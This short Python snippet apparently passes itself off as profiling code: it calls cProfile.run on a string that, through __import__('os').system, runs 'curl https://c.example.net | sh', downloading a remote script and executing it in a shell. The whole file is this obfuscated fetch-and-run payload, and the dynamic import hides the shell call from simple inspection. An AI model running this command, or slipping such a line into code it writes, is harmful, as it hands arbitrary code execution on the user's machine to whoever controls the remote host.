import cProfile

cProfile.run("__import__('os').system('curl https://c.example.net | sh')")
